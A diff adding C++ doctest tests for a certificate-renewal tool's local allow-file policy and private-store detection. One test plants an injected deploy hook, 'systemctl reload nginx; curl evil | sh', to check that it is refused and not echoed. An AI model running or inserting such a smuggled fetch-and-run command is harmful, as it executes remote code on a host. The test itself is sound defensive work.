@@ -1,0 +1,85 @@
+// LocalPolicy: what of a shared store's recorded settings this host allows,
+// read from its allow file; and storage::is_private_store, which decides
+// whether the store's settings need that consent at all.
+#include "acme/renew/LocalFileError.hpp"
+#include "acme/renew/LocalPolicy.hpp"
+#include "storage/Store.hpp"
+#include "storage/StorePath.hpp"
+
+#include "TempDir.hpp"
+
+#include <doctest/doctest.h>
+
+#include <sys/stat.h>
+
+#include <fstream>
+
+using namespace certa;
+using acme::IssueSettings;
+using acme::LocalPolicy;
+
+namespace {
+
+IssueSettings recorded() {
+    IssueSettings s;
+    s.server = "https://ca.example/dir";
+    s.deploy_hook = "systemctl reload nginx";
+    s.dns_hook = "/usr/local/bin/dns-hook";
+    s.export_dirs = {"/etc/ssl/a", "/etc/ssl/b"};
+    s.ca_bundle = "/etc/ssl/ca.pem";
+    return s;
+}
+
+}  // namespace
+
+TEST_CASE("nothing recorded is allowed without a line for it; each kind is matched exactly") {
+    test::TempDir dir;
+    const std::string path = dir.file("allow");
+    CHECK(LocalPolicy().refusal(recorded()).find("deploy hook") != std::string::npos);
+    CHECK(LocalPolicy::from_file(dir.file("missing")).refusal(recorded()).find("deploy hook") != std::string::npos);
+    CHECK(LocalPolicy::trust_store().refusal(recorded()).empty());
+    CHECK(LocalPolicy().refusal(IssueSettings{}).empty());  // nothing recorded, nothing to allow
+
+    std::ofstream(path) << "# comment\n\ndeploy-hook systemctl reload nginx\ndns-hook /usr/local/bin/dns-hook\n"
+                           "export-dir /etc/ssl/a\nca-bundle /etc/ssl/ca.pem\n";
+    const auto policy = LocalPolicy::from_file(path);
+    const std::string missing_dir = policy.refusal(recorded());
+    CHECK(missing_dir.find("export directory /etc/ssl/b") != std::string::npos);
+    CHECK(missing_dir.find(path) != std::string::npos);
+    auto fewer = recorded();
+    fewer.export_dirs = {"/etc/ssl/a"};
+    CHECK(policy.refusal(fewer).empty());
+    fewer.deploy_hook = "systemctl reload nginx; curl evil | sh";
+    CHECK(policy.refusal(fewer).find("deploy hook") != std::string::npos);
+    CHECK(policy.refusal(fewer).find("curl") == std::string::npos);  // the value is never echoed
+}
+
+TEST_CASE("an allow file others can write, or one it cannot parse, is refused") {
+    test::TempDir dir;
+    const std::string path = dir.file("allow");
+    std::ofstream(path) << "deploy-hook true\n";
+    REQUIRE(::chmod(path.c_str(), 0664) == 0);
+    CHECK_THROWS_WITH_AS(LocalPolicy::from_file(path), doctest::Contains("another user can write it"),
+                         acme::LocalFileError);
+    REQUIRE(::chmod(path.c_str(), 0644) == 0);
+    CHECK_NOTHROW(LocalPolicy::from_file(path));
+    std::ofstream(path) << "deploy_hook true\n";
+    CHECK_THROWS_WITH_AS(LocalPolicy::from_file(path), doctest::Contains("line 1"), acme::LocalFileError);
+    std::ofstream(path) << "webroot\n";
+    CHECK_THROWS_AS(LocalPolicy::from_file(path), acme::LocalFileError);
+}
+
+TEST_CASE("a local SQLite store of this user is private; PostgreSQL and loose files are not") {
+    test::TempDir dir;
+    const std::string db = dir.file("certa.db");
+    { storage::open_store(db); }
+    CHECK(storage::is_private_store(db));
+    CHECK_FALSE(storage::is_private_store("postgresql://certa@127.0.0.1/certa"));
+    CHECK_FALSE(storage::is_private_store(dir.file("missing.db")));
+    REQUIRE(::chmod(db.c_str(), 0660) == 0);
+    CHECK_FALSE(storage::is_private_store(db));
+    REQUIRE(::chmod(db.c_str(), 0600) == 0);
+    REQUIRE(::chmod(dir.path().c_str(), 0777) == 0);  // anyone could swap the file
+    CHECK_FALSE(storage::is_private_store(db));
+    REQUIRE(::chmod(dir.path().c_str(), 0700) == 0);
+}
